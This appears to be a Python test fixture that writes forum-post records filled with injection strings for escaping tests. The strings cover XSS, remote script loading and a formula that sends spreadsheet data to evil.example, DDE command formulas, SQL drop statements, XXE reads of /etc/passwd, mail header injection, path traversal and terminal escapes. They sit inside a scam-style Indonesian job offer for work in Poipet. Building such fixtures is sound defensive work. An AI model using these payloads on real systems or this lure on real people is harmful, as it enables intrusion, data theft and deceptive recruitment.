"""Words that act where they are not escaped, by what they want to act on."""

from __future__ import annotations

import json
from pathlib import Path

WORDS = {
    "script": "<script>alert(1)</script><script src=//evil.example/x.js></script>",
    "end-of-script": "</script></style></textarea></title></noscript></template>--><script>alert(1)</script>",
    "attribute": "\" onmouseover=alert(1) autofocus onfocus=alert(1) x=\"' onclick=alert(1) '",
    "picture": "<img src=https://evil.example/x onerror=alert(1)><svg/onload=alert(1)><body onload=alert(1)>",
    "frame": "<iframe src=file:///etc/passwd></iframe><object data=data:text/html,x></object><base href=//evil.example/>",
    "style": "</style><style>*{background:url(https://evil.example/x)}</style><link rel=stylesheet href=//evil.example/x>",
    "math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "link": "javascript:alert(1) data:text/html,<script>alert(1)</script> vbscript:x file:///etc/passwd",
    "template": "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} {% raw %} [[7*7]] {{constructor.constructor('alert(1)')()}}",
    "format": "%s%n%x {0.__class__} {title!r:>9999999} {} {name} $HOME `id` $(id)",
    "formula": "=HYPERLINK(\"https://evil.example/\"&A1)",
    "formula-plus": "+1+cmd|' /C calc'!A0",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-tab": "\t=1+1",
    "formula-return": "\r=1+1\n=1+1",
    "formula-wide": "＝1+1",
    "formula-quoted": "\",=1+1,\"\r\n=1+1;\"=1+1",
    "markdown": "![x](https://evil.example/x.png) [x](javascript:alert(1)) | a | b |\n|---|\n```\n# x <details>",
    "markup-of-terminals": "[red]x[/red] [link=https://evil.example]x[/link] [/] [bold",
    "escapes": "\x1b]0;owned\x07\x1b[2J\x1b[31m\x1b]8;;https://evil.example\x1b\\x\x1b]52;c;b3duZWQ=\x07",
    "escapes-of-8-bits": "\x9b2J\x9d0;owned\x9c\x90q\x9c\x85",
    "direction": "\u202egnp.exe\u202c \u2066\u2067\u2069 \u200f\u061c",
    "invisible": "a\u200bb\u2060c\ufeffd\u00ade\U000e0041\U000e007f",
    "piled-up": "Z" + "\u0335\u0489\u0301" * 100,
    "look-alikes": "раураl.example ＜script＞alert(1)＜/script＞ \uff07\uff02",
    "nul": "a\0b\x01\x08\x7f",
    "surrogates": "a\ud800b\udfff",
    "not-characters": "a\uffffb\ufffe\U0010ffff\ufdd0",
    "sql": "'; DROP TABLE posts; -- \" OR 1=1 /* %_ \\",
    "search": "*:* OR _exists_:id {\"script\":\"x\"} /.*/ text:\"x\" AND (a OR b) ~9 ^9 [* TO *]",
    "json": "\"}],\"x\":[{\"y\":\"\\u0000\\",
    "xml": "]]> <!-- --> &x; <?xml version='1.0'?><!DOCTYPE x [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
    "mail": "x\r\nBcc: evil@evil.example\r\n\r\nbody",
    "path": "../../../../tmp/owned /etc/passwd C:\\windows\\x ..%2f..%2fx CON NUL:",
    "graph": "id \"x\" ] node [ id \"y\" ); MATCH (n) DETACH DELETE n; //",
    "long": "w" * 3_000,
}  # fmt: skip
_OFFER = "Lowongan kerja admin penempatan Poipet, gaji 800 USD, tiket ditanggung. PT {word} WA 0812-0000-{n:04} telegram @hr_contoh_{n} {word}"


def write_posts(path: Path) -> Path:
    """A file of posts: two for each kind of words, which stand in every field that a stranger can write."""
    rows = [
        {
            "id": f"{name}-{copy}{word}", "text": _OFFER.format(word="{word}", n=1000 + n).replace("{word}", word) + " ulang" * copy,
            "author": word, "title": word, "author_url": word, "url": f"https://forum.example/{word}#{copy}", "thread": word,
            "published": word, "date": "2026-03-01T10:00:00+00:00", "channel": word,
        }
        for n, (name, word) in enumerate(WORDS.items())
        for copy in range(2)
    ]  # fmt: skip
    path.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    return path
